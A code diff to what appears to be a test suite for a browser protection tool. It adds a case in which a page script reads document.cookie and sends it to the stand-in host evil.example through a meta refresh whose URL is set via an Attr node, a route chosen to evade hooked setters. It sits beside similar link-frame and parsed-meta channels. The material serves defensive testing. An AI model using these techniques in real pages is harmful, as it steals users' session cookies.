@@ -507,8 +507,8 @@ export const MAIN_WORLD_SCRIPTS = {
   'link-follows': `(() => {
   const c = encodeURIComponent(document.cookie);
   ${SHOP_FRAME}
-  Promise.all([frame('saq-link-a'), frame('saq-link-b'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c'), frame('saq-meta-d')]).then(([link, inner, a, b, m, p]) => {
-    link.onload = inner.onload = a.onload = b.onload = m.onload = p.onload = null;
+  Promise.all([frame('saq-link-a'), frame('saq-link-b'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c'), frame('saq-meta-d'), frame('saq-meta-e')]).then(([link, inner, a, b, m, p, n]) => {
+    link.onload = inner.onload = a.onload = b.onload = m.onload = p.onload = n.onload = null;
     const into = document.createElement('a');
     into.href = 'https://evil.example/link-dispatched?c=' + c;
     into.target = 'saq-link-a';
@@ -549,6 +549,13 @@ export const MAIN_WORLD_SCRIPTS = {
     // Parsed apart from the page, the element gets its attributes from no hooked call; it refreshes once moved in.
     const parsed = new DOMParser().parseFromString('<meta http-equiv="refresh" content="0;url=https://evil.example/meta-parsed?c=' + c + '">', 'text/html');
     p.contentDocument.head.appendChild(parsed.querySelector('meta'));
+    // Put in with an empty content (no refresh), then given its URL through the content attribute's Attr node:
+    // no setAttribute, no property setter and no insertion carries that URL.
+    const byNode = n.contentDocument.createElement('meta');
+    byNode.setAttribute('http-equiv', 'refresh');
+    byNode.setAttribute('content', '');
+    n.contentDocument.head.appendChild(byNode);
+    byNode.getAttributeNode('content').nodeValue = '0;url=https://evil.example/meta-node?c=' + c;
     window.__followed = true;
   });
 })();`,
